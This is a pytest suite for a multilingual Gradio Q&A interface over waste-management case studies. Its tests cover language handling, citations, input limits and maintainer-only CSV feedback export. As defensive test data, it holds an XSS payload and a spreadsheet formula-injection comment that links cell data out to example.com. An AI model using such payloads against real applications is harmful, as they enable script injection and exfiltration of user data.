"""The web UI served for real on a loopback port and driven with gradio_client, over the full index."""

from __future__ import annotations

import csv
import os
import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest
from gradio_client import Client
from gradio_client.exceptions import AppError

from kb.settings import Settings
from tests.ui_server import PASSWORD, Served, logged_in, serving
from ui.texts import EXAMPLES, TEXTS

THAI = re.compile(r"[\u0e00-\u0e7f]")
KANA = re.compile(r"[\u3040-\u30ff]")
QUESTIONS = {
    "ja": ("バゴ市のコンポストセンターは一日何トンの市場ごみを処理していますか", "iges-bago-cebu-composting", "1 トン"),
    "en": ("How much market waste does the Bago compost centre process a day?", "iges-bago-cebu-composting", "1 ton"),
    "id": ("Berapa ton sampah pasar yang dikompos di Bago setiap hari?", "iges-bago-cebu-composting", "1 ton"),
    "th": ("Bago ทำปุ๋ยหมักจากขยะตลาดวันละเท่าไร", "iges-bago-cebu-composting", "1 ตัน"),
}


@pytest.fixture(scope="module")
def served(full_index: Settings) -> Iterator[Served]:
    with serving(replace(full_index, admin_password=PASSWORD)) as running:
        yield running


def ask(served: Served, question: str, choice: str = "auto", countries: list[str] | None = None,
        client: Client | None = None) -> tuple[str, dict]:
    """Ask through the page's /ask endpoint: the thread's HTML and the answer record."""
    client = client or Client(served.url, verbose=False)
    thread, _question, answer, *_ = client.predict(question, choice, countries or [], [], [], api_name="/ask")
    return thread, answer


def test_gradio_analytics_are_off_before_gradio_loads() -> None:
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False"


@pytest.mark.parametrize("lang", list(QUESTIONS))
def test_question_is_answered_in_its_language_with_citation_cards(served: Served, lang: str) -> None:
    question, doc_id, fact = QUESTIONS[lang]
    thread, answer = ask(served, question)
    assert answer["language"] == lang and answer["page_language"] == lang
    assert not answer["abstained"]
    assert fact in answer["answer"], f"expected {fact!r} in the {lang} answer, got {answer['answer']!r}"
    assert answer["citations"][0]["doc_id"] == doc_id
    assert all(c["lang"] == lang for c in answer["citations"])
    if lang == "th":
        assert THAI.search(answer["answer"])
    if lang == "ja":
        assert KANA.search(answer["answer"])
    assert 'href="#k1-c1"' in thread and 'id="k1-c1"' in thread, "marker [1] must link to card 1"
    assert thread.count('class="k-card"') == len(answer["citations"])
    assert "<mark>" in thread, "the sentences used must be highlighted in the passage"
    if lang != "ja":
        assert '<details class="k-original">' in thread and '<blockquote lang="ja">' in thread


def test_every_example_question_is_answered_in_its_language(served: Served) -> None:
    client = Client(served.url, verbose=False)
    for lang, questions in EXAMPLES.items():
        for question in questions:
            _, answer = ask(served, question, client=client)
            assert answer["language"] == lang, f"{question!r}: expected {lang}, got {answer['language']}"
            assert not answer["abstained"] and answer["citations"], f"{question!r} was not answered: {answer['answer']}"


def test_out_of_scope_question_gets_the_abstention_in_its_language(served: Served) -> None:
    thread, answer = ask(served, "北九州市長の好きな食べ物は何ですか")
    assert answer["abstained"] and answer["citations"] == []
    assert answer["answer"].startswith("この質問に答える内容は事例集にありません")
    assert "k-abstain" in thread and "k-card" not in thread


def test_fixed_page_language_answers_an_english_question_in_thai(served: Served) -> None:
    _, answer = ask(served, "How much market waste does the Bago compost centre process a day?", choice="th")
    assert answer["language"] == "th" and answer["page_language"] == "th"
    assert THAI.search(answer["answer"]) and "1 ตัน" in answer["answer"]


def test_country_filter_narrows_retrieval_to_that_country(served: Served) -> None:
    catalog = served.backend.catalog
    _, answer = ask(served, "How is waste composted?", countries=["TH"])
    assert answer["citations"], answer
    for citation in answer["citations"]:
        assert "TH" in catalog.cases[citation["doc_id"]].countries, citation["doc_id"]
    assert any("Thailand" in note for note in answer["notes"])


@pytest.mark.parametrize("choice,key", [("auto", "empty"), ("th", "empty"), ("ja", "empty")])
def test_empty_question_gets_a_message_in_the_page_language(served: Served, choice: str, key: str) -> None:
    thread, answer = ask(served, "   \n ", choice=choice)
    lang = "en" if choice == "auto" else choice
    assert answer == {"error": TEXTS[key][lang], "page_language": lang, "notes": []}
    assert 'role="alert"' in thread and TEXTS[key][lang] in thread


def test_emoji_only_question_asks_for_words_and_emoji_in_a_question_is_fine(served: Served) -> None:
    _, answer = ask(served, "🌱♻️🙏")
    assert answer["error"] == TEXTS["no_words"]["en"]
    _, answer = ask(served, "Bago ทำปุ๋ยหมักจากขยะตลาดวันละเท่าไร 🌱🙏")
    assert answer["language"] == "th" and not answer["abstained"]


def test_a_20000_character_paste_is_answered_from_its_start_with_a_note(served: Served) -> None:
    question = "How much market waste does the Bago compost centre process a day? " + "x" * 20_000
    thread, answer = ask(served, question)
    assert not answer["abstained"] and answer["citations"]
    assert any("20,066 characters" in note and "2,000" in note for note in answer["notes"]), answer["notes"]
    assert "x" * 700 not in thread, "the question bubble shows only the start of a long paste"


def test_html_and_script_in_a_question_are_shown_as_text(served: Served) -> None:
    attack = '<script>alert(1)</script><img src=x onerror="alert(2)"> Bago ทำปุ๋ยหมักวันละเท่าไร'
    thread, answer = ask(served, attack)
    assert "<script>" not in thread and "<img" not in thread
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=&quot;alert(2)&quot;&gt;" in thread
    assert answer["language"] == "th"


def test_unsupported_language_is_answered_in_english_with_a_note_in_the_page_language(served: Served) -> None:
    client = Client(served.url, verbose=False)
    ask(served, "Bago ทำปุ๋ยหมักจากขยะตลาดวันละเท่าไร", client=client)  # the page is now in Thai
    thread, answer = ask(served, "Quelle quantité de déchets le centre de compostage de Bago traite-t-il par jour ?",
                         client=client)
    assert answer["language"] == "en" and answer["page_language"] == "th"
    assert answer["notes"] and answer["notes"][0].startswith("Kyodo ตอบเป็นภาษาญี่ปุ่น"), answer["notes"]
    assert "ฝรั่งเศส" in answer["notes"][0], "the detected language is named in the page's language"
    _, after = ask(served, "How did Surabaya cut its waste?", client=client)
    assert not after["abstained"], "the app keeps serving after bad input"


def test_feedback_is_stored_and_exported_as_csv_to_a_maintainer_only(served: Served) -> None:
    client = Client(served.url, verbose=False)
    question = QUESTIONS["id"][0]
    _, answer = ask(served, question, client=client)
    assert client.predict(api_name="/rate_down") == f"<p>{TEXTS['thanks']['id']}</p>"
    comment = '=HYPERLINK("http://example.com/?q="&A1,"Tolong tambahkan biaya operasional")'
    client.predict(comment, api_name="/comment")
    rows = [r for r in served.backend.feedback.all() if r.question == question]
    assert len(rows) == 1, "a comment after a thumb updates the same row"
    row = rows[0]
    assert (row.rating, row.comment, row.language, row.answer) == ("down", comment, "id", answer["answer"])
    assert "iges-bago-cebu-composting" in row.citations and row.created
    with pytest.raises(AppError, match="log in as a maintainer first"):
        client.predict(api_name="/export_feedback")  # every question and comment: not for anyone who asks
    exported = logged_in(served.url).predict(api_name="/export_feedback")
    with open(exported, encoding="utf-8-sig", newline="") as handle:
        lines = [line for line in csv.DictReader(handle) if line["question"] == question]
    assert [(line["rating"], line["comment"]) for line in lines] == [("down", "'" + comment)], \
        "a comment that starts with '=' must reach Excel as text, not as a formula"


def test_rating_before_any_answer_asks_for_a_question_first(served: Served) -> None:
    client = Client(served.url, verbose=False)
    assert client.predict(api_name="/rate_up") == f"<p>{TEXTS['no_answer']['en']}</p>"


def test_case_study_reads_in_each_language(served: Served) -> None:
    client = Client(served.url, verbose=False)
    thai = client.predict("iges-bago-cebu-composting", "th", api_name="/read_case")
    japanese = client.predict("iges-bago-cebu-composting", "ja", api_name="/read_case")
    assert "การส่งเสริมการจัดการขยะในฟิลิปปินส์" in thai and "บาโก, เซบู (ฟิลิปปินส์)" in thai
    assert 'lang="ja"' in japanese and "コンポスト・センター" in japanese


def test_several_officials_at_once_are_all_answered(served: Served) -> None:
    questions = [q for q, _, _ in QUESTIONS.values()]
    started = time.perf_counter()
    with ThreadPoolExecutor(len(questions)) as pool:
        answers = list(pool.map(lambda q: ask(served, q)[1], questions))
    elapsed = time.perf_counter() - started
    assert [a["language"] for a in answers] == list(QUESTIONS)
    assert all(a["citations"] for a in answers)
    assert elapsed < 60, f"four concurrent questions took {elapsed:.1f} s"
